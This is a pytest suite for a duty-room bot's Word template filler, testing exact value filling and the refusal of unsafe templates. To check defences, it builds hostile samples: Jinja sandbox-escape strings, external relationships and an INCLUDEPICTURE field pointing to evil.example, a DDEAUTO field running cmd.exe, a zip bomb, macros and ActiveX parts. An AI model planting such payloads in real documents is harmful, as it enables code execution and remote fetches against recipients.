"""Word templates are filled in exactly, and bad ones are refused with their reason, within limits."""

import io
import json
import zipfile
from base64 import b64encode
from datetime import UTC, datetime
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from docx import Document

from bot import child, document_child
from bot.documents import DocumentRefused, print_docx, try_docx
from bot.prints import SHIPPED
from messages.documents.build import TEMPLATES, saved
from messages.record_samples import samples

ZONE, NOW = ZoneInfo("Asia/Shanghai"), datetime(2026, 7, 25, tzinfo=UTC)
VALUES: dict[str, Any] = {
    "单位": "值班室",
    "事项": [{"内容": "a"}, {"内容": "b"}],
    "说明": ["c"],
    "零报告": False,
}
QUIET: dict[str, Any] = {"单位": "值班室", "事项": [], "说明": [], "零报告": True}


def docx(*lines: str, header: str = "") -> bytes:
    """Return a document of these paragraphs."""
    document, out = Document(), io.BytesIO()
    for line in lines:
        document.add_paragraph(line)
    document.sections[0].header.paragraphs[0].text = header
    document.save(out)
    return out.getvalue()


def zipped(**parts: bytes) -> bytes:
    """Return a zip with these parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        for name, data in parts.items():
            file.writestr(name.replace("__", "/"), data)
    return out.getvalue()


def words(data: bytes) -> str:
    """Return the text of the paragraphs and of every cell."""
    document = Document(io.BytesIO(data))
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return "\n".join([*(p.text for p in document.paragraphs), *cells])


def refusal(template: bytes, **what: object) -> str:
    """Return why the child refuses, "" when it does not."""
    asked = {"template": b64encode(template).decode(), **(what or {"values": VALUES})}
    return document_child.answer(asked).get("refused", "")


# --- values -----------------------------------------------------------------------------------------------

EXACT = [
    ("marks of XML", "<b>&amp; \"'</w:t>", None),
    ("marks of the template", "{{ 7 }} {% x %} {# y #}", None),
    ("lines", "一\n二\r\n三\r四\u2028五", "一\n二\n三\n四\n五"),
    ("controls that XML cannot hold", "a\x00\x07\x0bb\x1b\ufffec", "a\nbc"),
    ("a page feed", "a\x0cb", "a\nb"),
    ("blanks at the ends", "  a　", None),
    ("a tab", "a\tb", None),
    ("letters beyond the first plane", "𠮷🚒", None),
    ("half of a letter", "a\ud83db", "ab"),
]


@pytest.mark.parametrize(("given", "read"), [e[1:] for e in EXACT], ids=[e[0] for e in EXACT])
def test_a_value_comes_out_as_it_went_in(given: str, read: str | None) -> None:
    value = json.loads(json.dumps(given))
    made = document_child.fill(docx("{{ 值 }}", header="{{ 值 }}"), {"值": value})
    assert words(made) == (given if read is None else read)
    assert Document(io.BytesIO(made)).sections[0].header.paragraphs[0].text == (read or given)


async def test_the_child_has_no_environment_and_the_same_values_give_the_same_bytes(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("DUTYROOM_TELEGRAM_TOKEN", "secret")
    first = await print_docx(docx("{{ 单位 }}"), VALUES)
    assert first == await print_docx(docx("{{ 单位 }}"), VALUES)
    assert words(first) == "值班室"
    times = {part.date_time for part in zipfile.ZipFile(io.BytesIO(first)).infolist()}
    assert times == {(1980, 1, 1, 0, 0, 0)}


# --- refusals ---------------------------------------------------------------------------------------------

REFUSED = [
    ("no field at all", docx("值班"), "一个栏目也没有"),
    ("a field that is not there", docx("值班", "甲：{{ 甲 }}"), "没有「甲」这个栏目（在「甲：{{ 甲 }}」处）"),
    ("a field of a field", docx("{{ 单位.电话 }}"), "没有「电话」这个栏目"),
    ("a field in the header", docx("{{ 单位 }}", header="页眉 {{ 乙 }}"), "没有「乙」这个栏目（在「页眉 {{ 乙 }}」处）"),
    ("a loop without its end", docx("{% for 项 in 事项 %}"), "少了结尾的 {% endfor %}"),
    ("an end without its loop", docx("a", "{% endfor %}"), "多余或写错的标记：{% endfor %}（在「{% endfor %}」处）"),
    ("a mark left open", docx("{{ 单位 "), "写法不对"),
    ("a filter that writes XML", docx("{{ 单位 | safe }}"), "不能用：safe"),
    ("a filter that makes links", docx("{{ 单位 | urlize }}"), "不能用：urlize"),
    ("a filter that takes marks away", docx("{{ 单位 | striptags }}"), "不能用：striptags"),
    ("escaping switched off", docx("{% autoescape false %}{{ 单位 }}{% endautoescape %}"), "不允许的写法：autoescape"),
    ("the inside of Python", docx("{{ 单位.__class__ }}"), "不允许的写法：__class__"),
    ("the inside by a filter", docx("{{ 单位|attr('__class__') }}"), "不允许的写法：__class__"),
    ("the inside by format", docx("{{ '{0.__class__}'.format(单位) }}"), "不允许的写法：__class__"),
    ("a change of what is given", docx("{{ 事项.append('x') }}"), "不允许的写法"),
    ("a range without end", docx("{{ 单位 }}{% for x in range(10000000) %}{% endfor %}"), "太大"),
    ("too much text", docx("{{ 单位 }}{{ 'ab' * 5000000 }}"), "太大"),
    ("another file", b"%PDF-1.7", "不是 Word 文档"),
    ("an empty file", b"", "不是 Word 文档"),
    ("a workbook", zipped(xl__workbook=b"<x/>"), "不是 Word 文档"),
    ("an old or locked file", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500), "另存为 docx"),
    ("a document in name only", zipped(**{"word__document.xml": b"<x/>"}), "不能用"),
    ("a zip bomb", zipped(**{"word__document.xml": bytes(70 * 2**20)}), "太大"),
]  # fmt: skip


@pytest.mark.parametrize(("template", "why"), [r[1:] for r in REFUSED], ids=[r[0] for r in REFUSED])
def test_a_bad_template_is_refused_with_the_reason_and_its_place(template: bytes, why: str) -> None:
    assert why in refusal(template)


async def test_an_endless_loop_is_given_up(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("bot.documents.WAIT", 1.5)
    loop = "{{ 单位 }}{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}"
    with pytest.raises(DocumentRefused, match="规定时间"):
        await print_docx(docx(loop), VALUES)


# --- what reaches out of the document, or brings more along -----------------------------------------------

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def altered(change: dict[str, tuple[str, str]], **more: bytes) -> bytes:
    """Return a template in whose parts (`word/document.xml`) something was replaced, with more parts."""
    given, out = zipfile.ZipFile(io.BytesIO(docx("{{ 单位 }}"))), io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        for name in given.namelist():
            old, new = change.get(name, ("", ""))
            text = given.read(name)
            assert old.encode() in text
            file.writestr(name, text.replace(old.encode(), new.encode(), 1) if old else text)
        for name, data in more.items():
            file.writestr(name, data)
    return out.getvalue()


def reaching(kind: str, target: str, mode: str = "External") -> bytes:
    """Return a template with one more relationship."""
    link = f'<Relationship Id="rId99" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return altered({"word/_rels/document.xml.rels": ("</Relationships>", f"{link}</Relationships>")})


def field(code: str) -> bytes:
    """Return a template with a field that Word works out, in two runs as Word writes it."""
    half = len(code) // 2
    runs = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in (code[:half], code[half:]))
    return altered({"word/document.xml": ("</w:p>", f"{runs}</w:p>")})


FOREIGN = {
    "another template": (reaching("attachedTemplate", "http://evil.example/x.dotm"), "外部链接（附加模板 http://evil"),
    "a picture elsewhere": (reaching("image", "file://server/share/x.png"), "外部链接（图片 file://server"),
    "an object elsewhere": (reaching("oleObject", "http://evil.example/x.xls"), "外部链接（OLE 对象 http"),
    "something unknown elsewhere": (reaching("frame", "http://evil.example/"), "外部链接（frame http"),
    "a text part elsewhere": (reaching("aFChunk", "/word/x.html", "Internal"), "嵌入"),
    "an object inside": (altered({}, **{"word/embeddings/oleObject1.bin": b"x"}), "嵌入的对象（word/embeddings/"),
    "a control inside": (altered({}, **{"word/activeX/activeX1.xml": b"<x/>"}), "嵌入的对象（word/activeX/"),
    "macros": (altered({}, **{"word/vbaProject.bin": b"x"}), "有宏"),
    "a field that fetches": (field(' INCLUDEPICTURE "http://evil.example/x.png" '), "域 INCLUDEPICTURE"),
    "a field that runs": (field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '), "域 DDEAUTO"),
    "a document type": (altered({"word/document.xml": ("<w:document", "<!DOCTYPE a><w:document")}), "DOCTYPE"),
    "a document type in other letters": (
        altered({}, **{"word/x.xml": '<?xml version="1.0"?><!DOCTYPE a><a/>'.encode("utf-16")}),
        "DOCTYPE",
    ),
}  # fmt: skip


@pytest.mark.parametrize("case", FOREIGN)
def test_a_template_that_reaches_out_or_brings_more_along_is_refused_with_what(case: str) -> None:
    template, why = FOREIGN[case]
    assert why in refusal(template)


def test_a_link_to_be_pressed_and_a_page_number_are_no_harm() -> None:
    assert refusal(reaching("hyperlink", "https://www.gov.cn/")) == ""
    assert refusal(field(" PAGE ")) == ""
    assert refusal(field(' HYPERLINK "https://www.gov.cn/" ')) == ""


# --- trials -----------------------------------------------------------------------------------------------

LOSING = {
    "a run that is no run": (("{{r 单位 }}",), "单位"),
    "a paragraph that is none": (("{{p 单位 }}",), "单位"),
    "a run in a loop": (("{% for 行 in 事项 %}{{r 行.内容 }}{% endfor %}",), "内容"),
    "the signs replaced": (("{{ 单位 | replace('<', '') }}",), "单位"),
    "lost in one of two places": (("{{ 单位 }}", "{{r 单位 }}"), "单位"),
    "a paragraph of a macro within a line": (
        ("{%p macro 段(x) %}", "{{ x }}", "{%p endmacro %}", "前 {{ 段(单位) }} 后"),
        "单位",
    ),
    "a run that is none in a macro": (
        ("{%p macro 段(x) %}", "{{r x }}", "{%p endmacro %}", "{{p 段(单位) }}"),
        "单位",
    ),
    "only when the watch was quiet": (("{% if 零报告 %}{{r 单位 }}{% else %}{{ 单位 }}{% endif %}",), "单位"),
}


@pytest.mark.parametrize("case", LOSING)
def test_a_template_that_loses_text_is_refused_by_its_field(case: str) -> None:
    lines, field = LOSING[case]
    said = refusal(docx(*lines), samples={"": VALUES, "没有事项的一班": QUIET})
    assert f"「{field}」里的 < 和 & 会使文字丢失" in said


KEEPING = {
    "plain": "{{ 单位 }}",
    "in a header": "值班 {{ 单位 }}",
    "a list joined": "{{ 说明 | join('；') }}",
    "a count": "{{ 事项 | length }}",
    "only asked for": "{% if 单位 == '值班室' %}本室{% endif %}{{ 说明 | length }}",
    "with something put before it": "{{ '单位：' ~ 单位 }}",
    "a loop": "{% for 行 in 事项 %}{{ loop.index }} {{ 行.内容 }}{% endfor %}",
    "a part kept under a name": "{% set 名 = 单位 %}{{ 名 }}",
    "a macro of a paragraph": "{%p macro 段(x) %}\n{{ x }}\n{%p endmacro %}\n{{p 段(单位) }}",
    "a macro of plain text": "{% macro 行文(x) %}（{{ x }}）{% endmacro %}{{ 行文(单位) }}",
}


@pytest.mark.parametrize("case", KEEPING)
def test_a_template_that_keeps_every_text_is_taken(case: str) -> None:
    text = KEEPING[case]
    template = docx("x", header=text) if case == "in a header" else docx(*text.split("\n"))
    assert refusal(template, samples={"": VALUES, "没有事项的一班": QUIET}) == ""


def test_a_template_that_a_quiet_watch_cannot_be_filled_into_is_refused() -> None:
    said = refusal(docx("{{ 单位 }} {{ 事项[0].内容 }}"), samples={"": VALUES, "没有事项的一班": QUIET})
    assert "（没有事项的一班）" in said


@pytest.mark.parametrize("name", ["交接班记录", "值班日志"])
async def test_the_shipped_template_takes_every_sample(name: str) -> None:
    template = (SHIPPED / f"{name}.docx").read_bytes()
    await try_docx(template, samples(name, NOW, ZONE))
    for values in samples(name, NOW, ZONE).values():
        made = words(document_child.fill(template, values))
        assert f"值班室{name}" in made
        assert "{" not in made
        assert "None" not in made


async def test_text_without_end_is_given_up_by_memory() -> None:
    with pytest.raises(DocumentRefused, match="内存"):
        await print_docx(docx("{{ 单位 }}{{ 'ab' * 1000000000 }}"), VALUES)


# --- the shipped templates --------------------------------------------------------------------------------

WIDE = {"交接班记录": 85, "值班日志": 75}
"""Millimetres that the column 内容 has at least, of 170."""


def parts_of(data: bytes) -> dict[str, bytes]:
    """Return the parts of a document."""
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        return {name: parts.read(name) for name in parts.namelist()}


@pytest.mark.parametrize("name", WIDE)
def test_the_shipped_template_is_what_its_script_builds(name: str) -> None:
    built = saved(TEMPLATES[name]())
    assert parts_of((SHIPPED / f"{name}.docx").read_bytes()) == parts_of(built)
    assert built == saved(TEMPLATES[name]())


@pytest.mark.parametrize("name", WIDE)
def test_a_printed_row_stays_on_one_page_and_a_heading_with_what_follows(name: str) -> None:
    sample = samples(name, NOW, ZONE)[""]
    document = Document(io.BytesIO(document_child.fill((SHIPPED / f"{name}.docx").read_bytes(), sample)))
    rows = [row for table in document.tables for row in table.rows]
    assert all(row._tr.xpath("w:trPr/w:cantSplit") for row in rows)
    head = document.tables[1].rows[0].cells
    assert all(cell.paragraphs[0].paragraph_format.keep_with_next for cell in head)
    wide = next(cell.width for cell in head if cell.text == "内容")
    assert wide is not None
    assert wide.mm >= WIDE[name]
    headings = [p for p in document.paragraphs if p.text in ("移交事项", "转移安置", "设备", "交班说明")]
    assert len(headings) == (4 if name == "交接班记录" else 0)
    assert all(p.paragraph_format.keep_with_next for p in headings)


async def test_a_child_has_the_processor_only_after_us() -> None:
    code, said, _ = await child.run(
        ("-c", "import os, sys; sys.stdin.read(); print(os.getpriority(os.PRIO_PROCESS, 0))"), b"", 20
    )
    assert (code, said) == (0, f"{child.BEHIND}\n".encode())
